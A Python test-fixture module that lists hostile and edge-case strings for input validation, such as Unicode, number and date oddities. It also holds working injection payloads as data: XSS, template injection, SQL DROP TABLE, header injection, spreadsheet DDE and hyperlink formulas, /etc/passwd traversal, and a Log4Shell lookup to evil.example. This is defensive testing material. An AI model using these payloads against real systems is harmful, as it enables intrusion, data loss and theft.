"""What people should never type, and do."""

import json
from pathlib import Path

OURS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(2)</script>",
    "</title><svg onload=alert(3)>",
    "<!--<c-field :field='form.name' />-->",
    "{{ request.user.password }}{% debug %}{{7*7}}",
    "{% include 'shell/page.html' %}",
    "javascript:alert(4)",
    "Robert'); DROP TABLE suppliers_contract;--",
    '" OR 1=1 --',
    "%00%0d%0aX-Evil: 1",
    "une ligne\r\nX-Evil: 1\r\n\r\n<h1>autre",
    "nul \x00 au milieu",
    "\x1b[31mrouge\x07\x08",
    '=HYPERLINK("http://evil.example";"ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "\u202e\u2066à l’envers\u2069\ufeff",
    "\u200b",
    "Z̷̡͚a̷͙͝l̴̢͌g̵̹͝o̶̡͘" * 3,
    "👩‍👩‍👧‍👦🏳️‍🌈🇫🇷",
    "Ｆｕｌｌｗｉｄｔｈ＜ｓｃｒｉｐｔ＞",
    "İıſßﬁǅ",
    "١٢٣٤",
    "99999999999999999999",
    "-1",
    "NaN",
    "1e400",
    "31/02/2026",
    "29/02/0001",
    "31/12/9999",
    "0,005",
    "1.234.567,89 €",
]
TAMPERED = ["", "abc", "-1", "99999999999999999999", "²", "nul \x00", "x" * 500]


def big_list():
    """The Big List of Naughty Strings, © Max Woolf, MIT licence: minimaxir/big-list-of-naughty-strings, at db33ec7."""
    return json.loads(Path(__file__).with_name("blns.json").read_text(encoding="utf-8"))
